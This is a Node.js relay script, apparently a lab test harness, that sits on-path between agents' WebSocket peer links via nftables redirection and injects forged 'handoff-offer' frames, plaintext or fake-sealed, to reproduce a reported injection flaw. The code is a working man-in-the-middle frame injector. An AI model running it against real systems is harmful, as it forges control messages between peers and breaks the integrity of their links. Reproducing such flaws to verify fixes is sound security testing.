#!/usr/bin/env node
// An on-path relay for the peer link, run in the client namespace: the lab's nftables rules
// send each agent's peer-link connection here (DNAT) and make the relay's onward connection
// look as if it came from the real peer (SNAT), so the agents admit it. The relay parses the
// WebSocket frames in both directions (to forward whole frames only) and, on command, writes a
// hand-made frame into every relayed stream towards the accepting agent — the attack of issue 11.
//
// stdin commands (one per line):
//   inject-text     a plain JSON handoff-offer at epoch 999 (the frame the issue reproduced)
//   inject-sealed   a binary frame shaped like a sealed frame (header, body, tag) without the key
//   stats           print the traffic seen so far
// stdout: one JSON line per event: listening, connection, upgraded, injected, stats, closed.
//
// usage: peer-relay.mjs --listen ADDR --port 7946 --route FROM=TO ... [--max-ms 600000]
import console from "node:console";
import process from "node:process";
import { randomBytes } from "node:crypto";
import { createServer, connect } from "node:net";
import { createInterface } from "node:readline";
import { setTimeout } from "node:timers";
import { parseArgs } from "node:util";

let parsed;
try {
  parsed = parseArgs({
    options: { listen: { type: "string" }, port: { type: "string", default: "7946" }, route: { type: "string", multiple: true, default: [] }, "max-ms": { type: "string", default: "600000" } },
    strict: true,
  });
} catch (error) {
  console.error(`peer-relay.mjs: ${error.message}`);
  process.exit(2);
}
const { values } = parsed;
const port = Number.parseInt(values.port, 10);
const maxMs = Number.parseInt(values["max-ms"], 10);
/** Source address → the agent that connection is meant for. */
const routes = new Map(values.route.map((r) => r.split("=")));
if (!values.listen || !Number.isInteger(port) || routes.size === 0 || [...routes.values()].some((v) => !v)) {
  console.error("usage: peer-relay.mjs --listen ADDR --port 7946 --route FROM=TO [--route FROM=TO] [--max-ms 600000]");
  process.exit(2);
}

const say = (event) => process.stdout.write(`${JSON.stringify({ at: Math.round(performance.now()), ...event })}\n`);
const connections = new Set();
let nextId = 1;

/**
 * One direction of a relayed connection: HTTP headers pass through as they come; after them,
 * whole WebSocket frames only, so an injected frame always lands on a frame boundary.
 */
function makeDirection(name, out, stats) {
  let buffer = Buffer.alloc(0);
  let upgraded = false;
  return {
    push(chunk) {
      buffer = Buffer.concat([buffer, chunk]);
      if (!upgraded) {
        const end = buffer.indexOf("\r\n\r\n");
        if (end < 0) return;
        out.write(buffer.subarray(0, end + 4));
        buffer = buffer.subarray(end + 4);
        upgraded = true;
        stats.upgraded = true;
      }
      for (;;) {
        const frame = nextFrame(buffer);
        if (!frame) return;
        out.write(buffer.subarray(0, frame.length));
        buffer = buffer.subarray(frame.length);
        const key = frame.opcode === 1 ? "text" : frame.opcode === 2 ? "binary" : "control";
        stats[name][key]++;
        if (frame.opcode === 2 && frame.payload.includes("heartbeat")) stats[name].plaintextInBinary++;
        if (frame.opcode === 1 && frame.payload.includes("heartbeat")) stats[name].plaintextHeartbeats++;
      }
    },
  };
}

/** The first whole frame in `buffer` (length, opcode, unmasked payload), or null. */
function nextFrame(buffer) {
  if (buffer.length < 2) return null;
  const opcode = buffer[0] & 0x0f;
  const masked = (buffer[1] & 0x80) !== 0;
  let length = buffer[1] & 0x7f;
  let offset = 2;
  if (length === 126) {
    if (buffer.length < 4) return null;
    length = buffer.readUInt16BE(2);
    offset = 4;
  } else if (length === 127) {
    if (buffer.length < 10) return null;
    length = Number(buffer.readBigUInt64BE(2));
    offset = 10;
  }
  const maskAt = offset;
  if (masked) offset += 4;
  if (buffer.length < offset + length) return null;
  const payload = Buffer.from(buffer.subarray(offset, offset + length));
  if (masked) for (let i = 0; i < payload.length; i++) payload[i] ^= buffer[maskAt + (i % 4)];
  return { length: offset + length, opcode, payload: payload.toString("latin1") };
}

/** A masked client-to-server frame (what a dialer sends). */
function clientFrame(opcode, payload) {
  const mask = randomBytes(4);
  const length = payload.length;
  const header = length < 126 ? Buffer.from([0x80 | opcode, 0x80 | length]) : Buffer.from([0x80 | opcode, 0x80 | 126, length >> 8, length & 0xff]);
  const body = Buffer.from(payload);
  for (let i = 0; i < body.length; i++) body[i] ^= mask[i % 4];
  return Buffer.concat([header, mask, body]);
}

const FORGED_OFFER = { type: "handoff-offer", id: "forged-by-relay", epoch: 999, from: "mn1", to: "mn2", reason: "forged by an on-path relay" };

function forgedFrame(kind) {
  if (kind === "text") return clientFrame(1, Buffer.from(JSON.stringify(FORGED_OFFER)));
  // Format byte 1, a plausible sequence number, the offer as "ciphertext", a zero tag.
  const header = Buffer.alloc(9);
  header[0] = 1;
  header.writeUInt32BE(0, 1);
  header.writeUInt32BE(5, 5);
  return clientFrame(2, Buffer.concat([header, Buffer.from(JSON.stringify(FORGED_OFFER)), Buffer.alloc(16)]));
}

function snapshot(c) {
  return { id: c.id, from: c.from, to: c.to, upgraded: c.stats.upgraded, toListener: c.stats.toListener, toDialer: c.stats.toDialer, injected: c.injected };
}

const server = createServer((dialer) => {
  const from = (dialer.remoteAddress ?? "").replace(/^::ffff:/, "");
  const target = routes.get(from);
  if (!target) {
    say({ event: "unrouted", from });
    dialer.destroy();
    return;
  }
  const [host, targetPort] = target.includes(":") ? target.split(":") : [target, String(port)];
  const listener = connect({ host, port: Number(targetPort) });
  const stats = { upgraded: false, toListener: { text: 0, binary: 0, control: 0, plaintextHeartbeats: 0, plaintextInBinary: 0 }, toDialer: { text: 0, binary: 0, control: 0, plaintextHeartbeats: 0, plaintextInBinary: 0 } };
  const c = { id: nextId++, from, to: target, dialer, listener, stats, injected: 0 };
  connections.add(c);
  say({ event: "connection", id: c.id, from, to: target });
  const toListener = makeDirection("toListener", listener, stats);
  const toDialer = makeDirection("toDialer", dialer, stats);
  dialer.on("data", (chunk) => toListener.push(chunk));
  listener.on("data", (chunk) => toDialer.push(chunk));
  const end = () => {
    if (!connections.delete(c)) return;
    dialer.destroy();
    listener.destroy();
    say({ event: "closed", ...snapshot(c) });
  };
  for (const socket of [dialer, listener]) {
    socket.on("error", end);
    socket.on("close", end);
  }
});
server.on("error", (error) => {
  console.error(`peer-relay.mjs: ${error.message}`);
  process.exit(1);
});
server.listen(port, values.listen, () => say({ event: "listening", address: values.listen, port }));

createInterface({ input: process.stdin }).on("line", (line) => {
  const command = line.trim();
  if (command === "inject-text" || command === "inject-sealed") {
    const kind = command === "inject-text" ? "text" : "sealed";
    const into = [...connections].filter((c) => c.stats.upgraded && !c.listener.destroyed);
    for (const c of into) {
      c.listener.write(forgedFrame(kind));
      c.injected++;
    }
    say({ event: "injected", kind, connections: into.map((c) => c.id) });
  } else if (command === "stats") {
    say({ event: "stats", connections: [...connections].map(snapshot) });
  } else if (command !== "") {
    say({ event: "unknown-command", command });
  }
});
process.stdin.on("end", () => process.exit(0));
process.on("SIGTERM", () => process.exit(0));
setTimeout(() => process.exit(0), maxMs).unref();
